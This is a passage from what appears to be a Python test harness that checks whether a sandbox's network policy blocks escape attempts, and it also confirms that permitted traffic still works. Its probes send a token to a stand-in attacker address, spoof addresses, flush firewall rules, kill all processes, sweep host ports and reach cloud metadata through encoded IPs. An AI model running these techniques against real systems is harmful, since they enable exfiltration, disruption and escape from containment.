    with socket.socket(FAMILY, socket.SOCK_DGRAM, 136) as s:
        s.sendto(TOKEN.encode(), (EVIL_IP, 7001))
    return False
def fragments(): return TOKEN.encode() in udp(EVIL_IP, 7001, TOKEN.encode() + b"x" * 5000)
def fragments_allowed_443(): return TOKEN.encode() in udp(lookup(ALLOWED), 443, TOKEN.encode() + b"x" * 5000)
def tcp_fast_open():
    with socket.socket(FAMILY) as s:
        s.settimeout(T)
        s.sendto(http(EVIL), 0x20000000, (EVIL_IP, 80))
        return ok(s.recv(4096))

# the link

def spoof_source():
    with socket.socket(FAMILY, socket.SOCK_DGRAM) as s:
        s.setsockopt(*place((socket.SOL_IP, 15), (socket.IPPROTO_IPV6, 78)), 1)  # IP_FREEBIND, IPV6_FREEBIND
        s.bind((OTHER, 4444))
        s.sendto(TOKEN.encode(), (EVIL_IP, 7001))
    return False
def spoof_transparent():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.SOL_IP, 19, 1)  # IP_TRANSPARENT
        s.bind((ALLOWED_IP, 7000))  # gVisor takes the option and does not heed it
        return True
def spoof_packet_socket():
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3) as s:
        s.bind(("eth0", 0x800))
        return True
def arp_spoof():
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0806) as s:
        s.bind(("eth0", 0x0806))
        return True
def netlink(kind, body):
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as s:
        s.bind((0, 0))
        s.send(struct.pack("=IHHII", 16 + len(body), kind, 0x405, 1, 0) + body)
        code = struct.unpack("=i", s.recv(4096)[16:20])[0]
        if code:
            raise OSError(-code, os.strerror(-code))
        return True
def attr(kind, data): return struct.pack("=HH", 4 + len(data), kind) + data
def add_address(): return netlink(20, struct.pack("=BBBBI", 2, 32, 0, 0, 2) + attr(2, socket.inet_aton("10.213.0.99")))
def add_route(): return netlink(24, struct.pack("=BBBBBBBBI", 2, 24, 0, 0, 254, 4, 0, 1, 0) + attr(1, socket.inet_aton("203.0.113.0")) + attr(4, struct.pack("=I", 2)))
def set_mac(): return netlink(16, struct.pack("=BxHiII", 0, 0, 2, 0, 0) + attr(1, b"\2pad\0\2"))
def add_neighbour(): return netlink(28, struct.pack("=BxxxiHBB", 2, 2, 0x80, 0, 0) + attr(1, socket.inet_aton(GATEWAY)) + attr(2, b"\2pad\0\7") + b"\0\0")
def new_link(): return netlink(16, struct.pack("=BxHiII", 0, 0, 0, 0, 0) + attr(3, b"x0\0\0") + attr(18, attr(1, b"dummy\0\0\0")))
def set_mark():
    with socket.socket() as s:
        s.setsockopt(socket.SOL_SOCKET, 36, 1)  # SO_MARK
        return True
def nft_flush():
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12) as s:
        s.bind((0, 0))
        begin = struct.pack("=IHHII", 20, 16, 1, 0, 0) + struct.pack(">BBH", 0, 0, 10)
        delete = struct.pack("=IHHII", 20, 10 << 8 | 2, 5, 1, 0) + struct.pack(">BBH", 0, 0, 0)
        end = struct.pack("=IHHII", 20, 17, 1, 2, 0) + struct.pack(">BBH", 0, 0, 10)
        s.send(begin + delete + end)
        s.settimeout(T)
        try:
            s.recv(4096)
        except OSError:
            pass
    return ip_tcp()
def new_user_namespace():
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.unshare(0x10000000 | 0x40000000):  # CLONE_NEWUSER | CLONE_NEWNET
        raise OSError(ctypes.get_errno(), "unshare")
    return raw(1, b"\x08" + b"\0" * 7 + TOKEN.encode())
def kill_everything():
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) not in (1, os.getpid(), os.getppid()):
            try:
                os.kill(int(pid), signal.SIGKILL)
            except OSError:
                pass
    for name in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, signal.SIGQUIT):
        try:
            os.kill(1, name)
        except OSError:
            pass
        ip_tcp()
    return False

# IPv6

def v6(host, kind=socket.SOCK_DGRAM, port=7001, scope=0, option=None):
    with socket.socket(socket.AF_INET6, kind) as s:
        s.settimeout(T)
        if option:
            s.setsockopt(socket.IPPROTO_IPV6, *option)
        s.connect((host, port, 0, scope))
        s.send(TOKEN.encode())
        return TOKEN.encode() in s.recv(4096)
def ipv6_link_local(): return v6("fe80::1", scope=2)
def ipv6_multicast(): return v6("ff02::1", scope=2)
def ipv6_all_routers(): return v6("ff02::2", scope=2)
def ipv6_nat64(): return v6("64:ff9b::cb00:7142")
def ipv6_6to4(): return v6("2002:cb00:7142::1")
def ipv6_teredo(): return v6("2001:0:cb00:7142::1")
def ipv6_compatible(): return v6("::203.0.113.66")
def ipv6_site_local(): return v6("fec0::1")
def ipv6_on_link(): return v6("2001:db8:1::2")
def ipv6_hop_options(): return v6(EVIL_IP, option=(socket.IPV6_HOPOPTS, b"\0\0\1\4\0\0\0\0"))
def ipv6_destination_options(): return v6(EVIL_IP, option=(socket.IPV6_DSTOPTS, b"\0\0\1\4\0\0\0\0"))
def ipv6_routing_header():
    """By way of the allowed server to the evil one (RFC 6275, type 2)."""
    lookup(ALLOWED)
    return v6(ALLOWED_IP, option=(socket.IPV6_RTHDR, struct.pack("BBBB4x", 0, 2, 2, 1) + socket.inet_pton(socket.AF_INET6, EVIL_IP)))
def ipv6_segment_routing():
    lookup(ALLOWED)
    segments = b"".join(socket.inet_pton(socket.AF_INET6, a) for a in (EVIL_IP, ALLOWED_IP))
    return v6(ALLOWED_IP, option=(socket.IPV6_RTHDR, struct.pack("BBBBBBH", 0, 4, 4, 1, 1, 0, 0) + segments))
def ipv6_flow_label():
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s:
        s.settimeout(T)
        s.sendto(TOKEN.encode(), (EVIL_IP, 7001, 0x12345, 0))
        return TOKEN.encode() in s.recv(4096)
def ipv6_advertisement():
    """A router advertisement to the host."""
    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6) as s:
        s.sendto(struct.pack(">BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + TOKEN.encode(), ("ff02::1", 0, 0, 2))
        return True
def ipv6_ping():
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6) as s:
        s.settimeout(T)
        s.sendto(struct.pack(">BBHHH", 128, 0, 0, 0, 1) + TOKEN.encode(), (EVIL_IP, 0))
        return TOKEN.encode() in s.recv(4096)
def ipv6_tunnels():
    for protocol in (4, 41, 47, 50, 51, 132):
        try:
            with socket.socket(socket.AF_INET6, socket.SOCK_RAW, protocol) as s:
                s.sendto(TOKEN.encode(), (EVIL_IP, 0))
                return True
        except OSError:
            pass
    return False
def ipv6_add_address(): return netlink(20, struct.pack("=BBBBI", 10, 128, 2, 0, 2) + attr(2, socket.inet_pton(socket.AF_INET6, "2001:db8:113::99")))
def ipv6_add_route(): return netlink(24, struct.pack("=BBBBBBBBI", 10, 64, 0, 0, 254, 4, 0, 1, 0) + attr(1, socket.inet_pton(socket.AF_INET6, "2001:db8:113::")) + attr(4, struct.pack("=I", 2)))

# the neighbourhood

def multicast():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(TOKEN.encode(), ("224.0.0.251", 5353))
    return False
def broadcast():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        s.sendto(TOKEN.encode(), ("255.255.255.255", 7001))
    return False
def sweep(host, ports):
    found = []
    def one(p):
        try:
            with socket.create_connection((host, p), T):
                found.append(p)
        except OSError:
            pass
    threads = [threading.Thread(target=one, args=(p,)) for p in ports]
    [t.start() for t in threads]
    [t.join() for t in threads]
    return found
def other_sandbox(): return bool(sweep(OTHER, [22, 53, 80, 443, 8080, 18080, 44772]))
def host_gateway(): return bool(sweep(GATEWAY, [22, 80, 443, int(os.environ["API"]), 8080, 18080, 28888, 44772, int(os.environ["PROXY"])]))
def host_outside_address(): return bool(sweep(HOST_IP, [22, 53, 80, 443, int(os.environ["API"]), int(os.environ["PROXY"])]))
def host_loopback(): return bool(sweep("127.0.0.1", [int(os.environ["API"])]))
def metadata(): return ok(tcp(METADATA, 80, http("169.254.169.254")))
def metadata_decimal(): return ok(tcp("2852039166", 80, http("169.254.169.254")))
def metadata_hex(): return ok(tcp("0xA9FEA9FE", 80, http("169.254.169.254")))
def metadata_octal(): return ok(tcp("0251.0376.0251.0376", 80, http("169.254.169.254")))
def metadata_short(): return ok(tcp("169.254.43518", 80, http("169.254.169.254")))
def metadata_alibaba(): return ok(tcp("100.100.100.200", 80, http("100.100.100.200")))
def metadata_host_header(): return at_allowed(http("169.254.169.254"))
def private_range(): return ok(tcp(PRIVATE, 80, http("inner.example")))

# what must go on, and what must end

def exhaust_tracking():
    """Makes as many tracked connections as it can."""
    ip = lookup(ALLOWED)
    for i in range(6000):
        with socket.socket(FAMILY, socket.SOCK_DGRAM) as s:
            try:
                s.sendto(b"x", (ip, 10000 + i % 20000))
            except OSError:
                pass
    return False

def good_http():
    a = tcp(lookup(ALLOWED), 80, http(ALLOWED))
    return ok(a)
def good_body():
    body = b"x" * 300000
    return ok(tcp(lookup(ALLOWED), 80, http(ALLOWED, "/p", "POST", f"Content-Length: {len(body)}\r\n") + body))
def good_chunks(): return ok(tcp(lookup(ALLOWED), 80, http(ALLOWED, "/p", "POST", "Transfer-Encoding: chunked\r\n") + b"5\r\nhello\r\n0\r\n\r\n"))
def good_keepalive(): return second(http(ALLOWED, "/first"), http(ALLOWED, "/second"))
def good_tls():
    c = ssl.create_default_context()
    c.check_hostname, c.verify_mode = False, ssl.CERT_NONE
    with socket.create_connection((lookup(ALLOWED), 443), 10) as raw, c.wrap_socket(raw, server_hostname=ALLOWED) as s:
        s.sendall(http(ALLOWED))
        return ok(s.recv(4096))
def good_opaque(): return TOKEN.encode() in tcp(lookup(ALLOWED), 7000, b"\0" + TOKEN.encode())
def good_line(): return TOKEN.encode() in tcp(lookup(ALLOWED), 7000, b"SET x " + TOKEN.encode() + b"\r\n")
def good_udp(): return TOKEN.encode() in udp(lookup(ALLOWED), 7001, TOKEN.encode())
def good_server_first():
    with socket.create_connection((lookup(ALLOWED), 7002), T) as s:
        s.settimeout(T)
        if s.recv(100) != b"220 ready\r\n":
            return False
        s.sendall(b"EHLO me\r\n")
        return b"EHLO me" in s.recv(100)
def good_ruled(): return b"welcome" in inside(http(RULED, "/ok/a"))
def good_ruled_body(): return b"welcome" in inside(http(RULED, "/ok/a", "PUT", "Transfer-Encoding: chunked\r\n") + b"5\r\nhello\r\n0\r\n\r\n")
def good_ruled_h2():
    h2(h2_head(1, h2_fields("/ok/" + TOKEN)))
    return True
def good_wild(): return ok(tcp(lookup("x.wild.example"), 80, http("x.wild.example")))
def explained():
    """The refusal says what and why."""
    a = tcp(lookup(ALLOWED), 80, http(EVIL))
    return a.startswith(b"HTTP/1.1 403") and b"NETWORK_POLICY_DENIED" in a and EVIL.encode() in a


def hold(port=7000):
    """Keeps a connection and tells when it ends; then uses its port again."""
    s = socket.create_connection((lookup(ALLOWED), port), T)
    own = s.getsockname()
    s.sendall(b"hello\n")
    s.recv(100)
    print("HOLDING", flush=True)
    s.settimeout(20)
    try:
        end = s.recv(100)
    except ConnectionError:
        end = b""
    if end != b"":
        print("OPEN still receives")
        return
    s.close()
    with socket.socket(FAMILY) as again:
        again.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        again.bind(own)
        again.settimeout(T)
        try:
            again.connect((ALLOWED_IP, port))
            again.sendall(TOKEN.encode() + b"\n")
            print("OPEN" if TOKEN.encode() in again.recv(100) else "BLOCKED")
        except OSError as e:
            print("BLOCKED", e)


if __name__ == "__main__":
    if sys.argv[1] == "hold":
        hold()
        sys.exit()
    try:
        print("OPEN" if globals()[sys.argv[1]]() else "BLOCKED no answer")
    except (OSError, ssl.SSLError) as e:
        print("BLOCKED", repr(e))
